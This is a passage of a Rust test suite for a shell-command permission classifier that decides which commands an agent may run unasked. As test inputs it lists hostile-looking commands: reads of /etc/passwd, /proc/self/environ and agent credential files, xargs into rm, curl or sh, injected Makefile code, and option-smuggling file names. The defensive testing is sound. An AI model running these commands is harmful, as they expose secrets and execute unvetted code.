    let with_link = judge_all("a link that leads out");
    place.write("src/shop/web/c d.ts", "a");
    assert!(judge_all("a name with a blank") <= with_link);
    fs::remove_file(place.root.join("web/c d.ts")).unwrap();
    fs::remove_file(place.root.join("web/b.ts")).unwrap();

    let find = "find web -type f";
    for text in [
        "for f in $(FIND); do head -3 $f; done",
        "for f in $(FIND); do echo \"== $f\"; head -3 \"$f\"; done",
        "FIND | while IFS= read -r f; do head -3 \"$f\"; done",
    ] {
        place.is_allowed(&text.replace("FIND", find), true, "plain names");
    }
    for text in [
        "for f in \"$(FIND)\"; do cat \"$f\"; done",
        "for f in x$(FIND); do cat \"$f\"; done",
        "for f in $(FIND); do cat \"../$f\"; done",
        "for f in $(FIND); do (cd /etc && cat \"$f\"); done",
        "for f in $(FIND); do cd web; cat \"$f\"; done",
        "FIND | while read -r f; do pushd web; cat \"$f\"; done",
        "FIND | while IFS=a read -r f; do cat \"$f\"; done",
        "FIND | while read -r f g; do cat \"$f\"; done",
        "FIND | while read -r f; do touch x > \"$f\"; done",
        "FIND | while read -r f; do ln -sf /etc/passwd web/a.ts; cat \"$f\"; done",
        "for f in $(FIND | sed s/a/b/); do cat \"$f\"; done",
        "for f in $(find / -type f); do cat \"$f\"; done",
    ] {
        place.is_allowed(&text.replace("FIND", find), false, "something else");
    }
}

/// C1: "Paths that are split at blanks": without `-print0` where no name below the folders is split, or may be an option.
#[test]
fn paths_from_a_pipe_need_no_nul_where_no_name_has_a_blank() {
    let place = Place::new();
    let texts = [
        "rg -l foo | xargs sed -n 1,20p",
        "find . -name '*.ts' | xargs grep -l foo",
        "rg -l foo web | head -3 | xargs cat",
        "find web -name '*.ts' | sort | xargs -n1 head -5",
        // Whatever the program is, the names are where it reads files.
        "find web -name '*.ts' | xargs grep -n -A2 -e foo -m 1",
        "find web -name '*.ts' | xargs sed -n -e 's/a/b/p' -e 1p",
        "rg -l foo | xargs git log --oneline -3 --",
        "rg -l foo | xargs timeout 5 wc -l",
        "find . -name a.ts | xargs tar tf",
        "find . -name a.ts | xargs strings",
    ];
    place.write("src/shop/web/a.ts", "a");
    for text in texts {
        place.is_allowed(text, true, "plain names");
    }
    for text in [
        "rg -l foo | xargs rm",
        "rg -l foo | xargs sed -i s/a/b/",
        "cat web/a.ts | xargs cat",
        // The index may have other names than the folder, and `ls` leaves the folder out.
        "git ls-files | xargs cat",
        "ls web | xargs cat",
        "rg -l foo /etc | xargs cat",
        "rg -l foo 'web a' | xargs cat",
        // A name is a program, a script, an output, a sub-command or an address here.
        "find . -name a.ts | xargs xargs",
        "find . -name a.ts | xargs timeout 5",
        "find . -name a.ts | xargs sed",
        "find . -name a.ts | xargs sed -n",
        "find . -name a.ts | xargs awk",
        "find . -name a.ts | xargs uniq",
        "find . -name a.ts | xargs tee",
        "find . -name a.ts | xargs git",
        "find . -name a.ts | xargs npm",
        "find . -name a.ts | xargs jq -n",
        "find . -name a.ts | xargs curl -s",
        "find . -name a.ts | xargs grep x -f",
        "find . -name a.ts | xargs sed -n -f",
        "find . -name a.ts | xargs git -C",
        "find . -name a.ts | xargs make",
        "find . -name a.ts | xargs sh",
        "find . -name a.ts | xargs sh -c 'cat \"$@\" > x' -",
        "find . -name a.ts | xargs python3",
        "find . -name a.ts | xargs tar xf",
        "find . -name a.ts | xargs cp web/b.ts",
        "find . -name a.ts | xargs sort -o",
        "find . -name a.ts | xargs env A=b",
        "find . -name a.ts | xargs FOO=bar",
        // What the files hold is no list of names.
        "find . -name a.ts | xargs cat | xargs nice",
        "find . -name a.ts | xargs cat | xargs cat",
        "find . -name a.ts | xargs head | sort | xargs wc -l",
        // It is split elsewhere, or is the words of an error.
        "find . -name a.ts | xargs -d s cat",
        "find . -name a.ts | xargs -ds cat",
        "find . -name a.ts | xargs --delimiter=/ cat",
        "find . -name a.ts | xargs -a list cat",
        "find . -name a.ts 2>&1 | xargs cat",
        // Another command makes the name, or the link, after we have looked.
        "mkdir -p 'q/a /etc/passwd' && find q | xargs cat",
        "find web | xargs cat; cp -r web other",
    ] {
        place.is_allowed(text, false, "what `xargs` runs, and which paths");
    }
    // Each path of `{} +` is there, and the second one of some programs is an output.
    place.is_allowed("find web -type f -exec uniq {} +", false, "two paths");
    place.is_allowed("find web -type f -exec uniq {} \\;", true, "one path");
    place.is_allowed("find web -type f -exec head -3 {} +", true, "two paths that are read");
    // A program may read `@x` as a file of options, also behind `--`.
    place.is_allowed("strings -- *", true, "no such name");
    place.write("src/shop/@opts", "/etc/passwd");
    place.is_allowed("strings -- *", false, "a file of options");
    fs::remove_file(place.root.join("@opts")).unwrap();
    for name in ["a b.ts", "a'b.ts", "a\\b.ts", "-n.ts", "a\tb.ts", "@a.ts", "a:b.ts", "a=b.ts"] {
        let file = format!("src/shop/web/{name}");
        place.write(&file, "a");
        texts.iter().for_each(|text| place.is_allowed(text, false, name));
        fs::remove_file(place.home.join(&file)).unwrap();
    }
    #[cfg(unix)]
    {
        place.write("other/secret", "a");
        let link = place.root.join("web/link.ts");
        std::os::unix::fs::symlink(place.home.join("other/secret"), link).unwrap();
        texts.iter().for_each(|text| place.is_allowed(text, false, "a link that leads out"));
        // Also in a folder that a pattern names beside another one.
        place.write("src/shop/docs/a.md", "a");
        for text in ["grep -R a docs ./w*", "rg -L a docs ./w*", "find docs ./w* -exec cat {} +"] {
            place.is_allowed(text, false, "a folder that a pattern names");
        }
    }
}

/// C1: "An environment of the workspace that a text activates is code of the workspace": so are `git` and `ls` in it.
#[test]
fn an_activated_environment_is_code_of_the_workspace() {
    let place = Place::new();
    for name in ["activate", "python", "pytest"] {
        place.write(format!("src/shop/venv/bin/{name}"), "");
    }
    place.is_allowed("source venv/bin/activate && python -m pytest", false, "no environment");
    place.write("src/shop/venv/pyvenv.cfg", "home = /usr/bin\n");
    for text in [
        "source venv/bin/activate && python -m pytest 2>&1 | tail -20",
        ". venv/bin/activate; pytest -q",
    ] {
        place.is_allowed(text, true, "an environment");
    }
    assert!(place.judged(Preset::Reader, "source venv/bin/activate").contains("runs code"));
    for text in [
        "source venv/bin/activate && python x.py",
        "source venv/bin/activate && python --version",
        "source venv/bin/activate && git push",
        "source venv/bin/activate x",
        "source venv/bin/pytest",
        "source ../venv/bin/activate",
    ] {
        place.is_allowed(text, false, "an environment");
    }
    place.is_allowed(
        "source venv/bin/activate && ls src && git status",
        true,
        "programs of the system",
    );
    for name in ["ls", "git"] {
        place.write(format!("src/shop/venv/bin/{name}"), "");
        place.is_allowed(&format!("source venv/bin/activate && {name} status"), false, name);
    }
}

/// C1: "Texts of skills and sources of installed packages are public": and nothing beside them is.
#[test]
fn texts_of_skills_and_sources_of_packages_are_read() {
    let place = Place::new();
    for path in [
        ".claude/skills/a/SKILL.md",
        ".codex/plugins/cache/x/1.0/skills/b/references/c.md",
        ".agents/skills/workmux/SKILL.md",
        ".cargo/registry/src/index-1/serde-1.0/src/lib.rs",
        "go/pkg/mod/example.com/x@v1.2.3/x.go",
    ] {
        place.write(path, "x");
        place.is_allowed(&format!("sed -n '1,240p' ~/{path}"), true, path);
        place.is_allowed(&format!("echo x > ~/{path}"), false, path);
    }
    for path in [
        ".codex/auth.json",
        ".claude/.credentials.json",
        ".claude/settings.json",
        ".claude/CLAUDE.md",
        ".claude/projects/x/memory.md",
        ".codex/skills/a/run.sh",
        ".codex/skills/../auth.md",
        ".cargo/credentials.toml",
        ".cargo/registry/src/x/.env",
        "go/x.go",
    ] {
        place.write(path, "x");
        place.is_allowed(&format!("cat ~/{path}"), false, path);
    }
    #[cfg(unix)]
    {
        place.write(".ssh/id.md", "x");
        std::os::unix::fs::symlink(
            place.home.join(".ssh/id.md"),
            place.home.join(".claude/skills/a/b.md"),
        )
        .unwrap();
        place.is_allowed("cat ~/.claude/skills/a/b.md", false, "a link to a secret");
    }
}

/// C1: "What a shell replaces only if it is set up so is asked about".
#[test]
fn a_name_that_a_shell_may_be_set_up_to_replace_is_asked_about() {
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir_all(folder.path().join("SRC")).unwrap();
    let reader = Classifier::new(Workspace::new(folder.path()), Preset::Reader)
        .with_search_path(SearchPath::unchecked());
    let judged = |text: &str| reader.judge(text, Dialect::Bash);
    for text in ["cat docs/^zz", "cat docs/\"\"^zz", "head -n 3 n##otes", "cat < a#b"] {
        let judged = judged(text).to_string();
        assert!(judged.contains("may be a pattern of zsh: quote it"), "{text}: {judged}");
    }
    for text in ["cat 'docs/^zz' \"n##otes\" a\\#b", "grep ^x a", "echo a#b", "git diff HEAD^ -- a"]
    {
        assert!(judged(text).decision().is_allow(), "{text}: {}", judged(text));
    }
    assert_eq!(
        judged("cd HOME && ls").to_string(),
        "ask: works in `HOME`, which is known only when it runs"
    );
    assert!(judged("cd SRC && ls").decision().is_allow(), "a folder of that name is there");
    assert!(judged("cd missing; ls").decision().is_allow());
}

/// C1: a program that builds runs no code that stands in the text, also if the shell hands it over as a file.
#[test]
fn a_build_is_given_no_code_by_the_text() {
    let place = Place::new();
    place.write("src/shop/Makefile", "test:\n\ttrue\n");
    for text in [
        "make -f <(printf 'all:\\n\\tid\\n') all",
        "env make -n -f <(echo 'all:; id') all",
        "bash -c 'make -f <(echo \"all:; id\") all'",
        "make -f <(cat Makefile) test",
        "rustdoc --test <(echo x)",
        "pytest <(echo x)",
        "cargo test --manifest-path <(echo x)",
        "webpack --entry <(echo x)",
    ] {
        place.is_allowed(text, false, "code of the text");
    }
    for text in ["diff <(sort Makefile) <(sort -u Makefile)", "wc -l <(ls)", "make test"] {
        place.is_allowed(text, true, "nothing runs it");
    }
}

/// C1: a file that may hold secrets is not shown by a command that another one hands it to, wherever it was found.
#[test]
fn a_secret_that_a_command_finds_is_asked_about_before_another_one_shows_it() {
    let place = Place::new();
    place.git(&["init", "-q"]);
    place.write("src/shop/src/a.py", "a");
    place.git(&["add", "src"]);
    let shown = [
        "find . -type f -exec cat {} +",
        "find . -type f -print0 | xargs -0 head -3",
        "find . -type f -exec timeout 5 cat {} \\;",
        "find . -maxdepth 1 -type f | while read -r f; do cat \"$f\"; done",
        "for f in $(find . -type f -not -name '*.py'); do cat $f; done",
        "find . -type f ! -name '*.PY' -exec sed -n 1p {} +",
        "find . -name '*.py' -o -type f -exec cat {} +",
        "find . -type f -exec awk 1 {} + -name '*.py'",
        "find . -type f ! \\( -name '*.py' -o -name .x \\) -exec cat {} +",
        "find . -name '*.en\\v' -exec cat {} +",
        "find . \\( -name '.e*' -prune -o -name '*.c' \\) -exec cat {} +",
        "find .// -type f -not -path './.*' -exec cat {} +",
        "git ls-files -o -z | xargs -0 cat",
        "rg --files -0 -g '*' | xargs -0 cat",
        "rg --files -0 | xargs -0 cat",
    ];
    let not_shown = [
        "find . -name '*.py' -exec cat {} +",
        "find src -type f -exec cat {} +",
        "find . \\( -name '*.py' -o -name '*.ts' \\) -type f -print0 | xargs -0 head -3",
        "find . -path ./node_modules -prune -o -name '*.py' -print0 | xargs -0 cat",
        "find . -type f -not -path '*/.*' -exec cat {} +",
        "find . -type f ! -name '.*' -exec cat {} +",
        "for f in $(find . -name '*.py'); do cat $f; done",
        "git ls-files -z | xargs -0 cat",
        "rg --files -0 -g '*.py' | xargs -0 cat",
        "find . -name '*.java' -exec cat {} +",
        // A search shows lines of each file, as `grep -r` does, and others show none.
        "find . -type f -exec grep -n a {} +",
        "find . -type f -print0 | xargs -0 wc -l",
    ];
    let by_its_text = |text: &&&str| text.contains("en\\v") || text.contains("'.e*'");
    let all = shown.iter().filter(|text| !by_its_text(text)).chain(&not_shown);
    all.for_each(|text| place.is_allowed(text, true, "no secret"));
    place.write("src/shop/.env", "KEY");
    shown.iter().for_each(|text| place.is_allowed(text, false, "`.env`"));
    not_shown.iter().for_each(|text| place.is_allowed(text, true, "`.env`, which is left out"));
    place.is_allowed("rg --files --hidden -0 | xargs -0 cat", false, "`.env`");
    place.is_allowed("find . -type f -name '.e*' -prune | xargs cat", false, "`.env`");
    place.write("src/shop/.config/server.pem", "KEY");
    place.is_allowed("rg --files -0 .config | xargs -0 cat", false, "a folder that is named");
    place.git(&["add", "-f", ".env"]);
    place.is_allowed("git ls-files -z | xargs -0 cat", false, "a tracked `.env`");
    let judged = place.judged(Preset::Developer, "find . -type f -exec cat {} +");
    assert!(judged.contains("may find files with secrets for a program that shows them: name the files that you mean"), "{judged}");
}

/// C1: the patterns of `find` are no reason where they leave files out, or where nothing but names is printed.
#[test]
fn a_pattern_that_leaves_secrets_out_is_no_question() {
    let place = Place::new();
    place.write("src/shop/src/a.py", "a");
    for text in [
        "find . -iname '*readme*' -not -path '*/.*'",
        "find . -type f ! -name '*.pem' -print0 | xargs -0 wc -l",
        "find . -path '*/.*' -prune -o -type f -print",
        "find . -name '.*' -maxdepth 1",
        "find . -type f -iname '*token*' | head",
    ] {
        place.is_allowed(text, true, "no content");
    }
    for text in [
        "find . -name .env -exec cat {} \\;",
        "find . -name '*.pem' -exec cat {} \\;",
        "find . -name '*.pem' -print0 | xargs -0 cat",
        "find . -not \\( -name '*.pem' \\) -print0 | xargs -0 cat",
        "find . ! ! -name '*.pem' -print0 | xargs -0 cat",
        "cat $(find . -name '*.pem')",
    ] {
        place.is_allowed(text, false, "content");
    }
}

/// C1: what `xargs` puts behind `--` is no option, which the reason says where it helps.
#[test]
fn operands_behind_two_dashes_are_no_options() {
    let place = Place::new();
    place.git(&["init", "-q"]);
    place.write("src/shop/src/a.py", "a");
    place.write("src/shop/src/--files0-from=a", "a");
    place.git(&["add", "src"]);
    for (text, allowed) in [
        ("git ls-files -z | xargs -0 wc -l", false),
        ("git ls-files -z | xargs -0 wc -l --", true),
        ("git ls-files -z | xargs -0 grep -n a --", true),
        ("git diff --name-only HEAD | xargs wc -l --", true),
        ("git diff --name-only HEAD | xargs cat --", false),
        ("git ls-files -z | xargs -0 pytest --", false),
        ("git ls-files -z | xargs -0 tar tf --", false),
        ("git ls-files -z | xargs -0 grep -e --", false),
    ] {
        place.is_allowed(text, allowed, "`--`");
    }
    let judged = place.judged(Preset::Developer, "git ls-files -z | xargs -0 wc -l");
    assert!(judged.contains("may be options: end its own in `--`"), "{judged}");
}

/// C2: a program of the project's own environment is the same by any path that leads to it in the workspace.
#[test]
fn a_program_of_the_project_is_known_by_its_path_from_below() {
    let place = Place::new();
    place.write("src/shop/app/a.py", "a");
    place.write("src/shop/gradlew", "#!/bin/sh\n");
    let root = place.root.display();
    for text in [
        "cd app && ../gradlew test",
        "cd app && ../.venv/bin/pytest",
        &format!("{root}/.venv/bin/pytest -q"),
        &format!("{root}/node_modules/.bin/eslint src"),
    ] {
        place.is_allowed(text, true, "a program of the project");
    }
    for text in [
        "../gradlew test",
        "cd api; ../gradlew test",
        "cd app && ../../gradlew test",
        "/srv/.venv/bin/pytest",
        &format!("{root}/../x/.venv/bin/pytest"),
        &format!("{root}/.venv/bin/rm -rf src"),
    ] {
        place.is_allowed(text, false, "another program");
    }
}

/// C1: "Any `cd` may fail", but not one to a folder that is there and that no command in front of it may have removed.
#[cfg(unix)]
#[test]
fn a_folder_that_is_there_is_gone_to() {
    let place = Place::new();
    place.write("src/shop/packages/web/a.ts", "a");
    place.write("src/shop/Makefile", "test:\n");
    std::os::unix::fs::symlink(place.root.join("packages"), place.root.join("linked")).unwrap();
    for text in [
        "cd packages/web; make test; cd ../..",
        "cd packages/web; ls; cat ../../Makefile",
        "ls; cd packages; cat ../Makefile",
        "(cd packages/web; cat ../../Makefile); ls",
        "cd packages/web; ls; cd -",
        "cd packages && ls && cd - && cat Makefile",
    ] {
        place.is_allowed(text, true, "a folder");
    }
    for text in [
        "cd packages/api; cat ../../x",
        "cd linked; cat ../x",
        "cd packages <nofile; cat ../x",
        "cd packages --; cat ../x",
        "cd -e packages; cat ../x",
        "make test; cd packages; cat ../x",
        "cd packages/web; make test; cd ../..; cat ../../x",
        "ls || cd packages; cat ../x",
        "cd packages | ls; cat ../x",
        // The directory before the text is not known, and another program knows none.
        "cd -",
        "cd packages/api; cd -",
        "(cd packages); cd -",
        "cd packages/api && ls; cd -",
        "cd packages && git -C - status",
        "cd packages; ls; cd - && cat ../x",
        "for x in 1 2; do (cd packages; cat ../x; make test); done",
        "while test -e a; do (cd packages; cat ../x; make test); done",
    ] {
        place.is_allowed(text, false, "what may not be there");
    }
}

/// Table of kinds: a script of `yq` such as `.env` is the key of a document, unless a file is called so.
#[test]
fn a_key_of_a_document_is_no_file_that_is_not_there() {
    let place = Place::new();
    place.write("src/shop/a.yaml", "env: 1\n");
    place.is_allowed("yq .env a.yaml", true, "no such file");
    place.write("src/shop/.env", "TOKEN=x\n");
    place.is_allowed("yq .env a.yaml", false, "such a file");
    place.is_allowed("yq add.yq a.yaml", false, "a file of code");
}

/// Table of kinds: the folder that a runner works in is one "to work in", and the program that it runs works there.
#[test]
fn a_runner_in_another_folder_is_asked_about() {
    let place = Place::new();
    place.write("src/shop/api/a.py", "");
    place.is_allowed("uv run --directory api pytest", true, "a folder of the workspace");
    place.is_allowed("uv run --directory ../x pytest", false, "another one");
}

/// C1: "A command that prints the addresses of remotes is asked about where one has a password".
#[test]
fn an_address_with_a_password_is_not_shown() {
    let place = Place::new();
    let shows = [
        "git remote -v",
        "git remote get-url origin",
        "git config remote.origin.url",
        "git config --get remote.origin.url",
        "cat .git/config",
    ];
    place.write("src/shop/.git/config", ORIGIN);
    for text in shows {
        place.is_allowed(text, true, "a plain address");
    }
    for user in ["ann:pass", "ghp_0123456789012345678901234567890123"] {
        let address = format!("https://{user}@git.example/");
        place.write("src/shop/.git/config", &ORIGIN.replace("https://git.example/", &address));
        for text in shows {
            place.is_allowed(text, false, user);
        }
        for text in ["git remote", "git config user.name", "git config --get core.editor"] {
            place.is_allowed(text, true, "no address is printed");
        }
    }
}

/// C1: "An alias for a sub-command that an earlier version of git does not have is a program that the settings name".
#[test]
fn an_alias_of_a_later_sub_command_is_a_program() {
    let place = Place::new();
    for (alias, allowed) in [("co = checkout", true), ("last-modified = !./x", false)] {
        place.write("src/shop/.git/config", &format!("[alias]\n\t{alias}\n"));
        let judged = place.judged(Preset::Reader, "git last-modified");
        assert_eq!(judged == "allow", allowed, "{alias}: {judged}");
    }
}

/// C1: "Git may list the names of files that hold secrets; a command that is handed such names is asked about".
#[test]
fn a_secret_whose_name_git_lists_is_not_handed_on() {
    let place = Place::new();
    place.write("src/shop/.env", "TOKEN=x\n");
    for text in
        ["git ls-files .env", "git ls-files '.e*'", "git check-ignore .env", "git status -s .env"]
    {
        place.is_allowed(text, true, "names");
    }
    for text in [
        "git ls-files .env | xargs cat",
        "git ls-files '.e*' | xargs cat",
        "cat $(git ls-files .env)",
        "for f in $(git ls-files '.e*'); do cat \"$f\"; done",
        "git status -v .env",
        "git status .env -v",
    ] {
        place.is_allowed(text, false, "content");
    }
}

/// C1: "Below `/proc`, the memory, the environment and the files of a process are secrets, and no other file of a similar
/// name".
#[test]
fn only_whole_names_below_proc_are_secrets() {
    let place = Place::new();
    place.is_allowed("head -3 /proc/meminfo", true, "a system file");
    for text in
        ["cat /proc/1/mem", "cat /proc/self/environ", "cat /proc/1/fd/3", "cat /proc/1/fdinfo/3"]
    {
        place.is_allowed(text, false, "a process");
    }
}
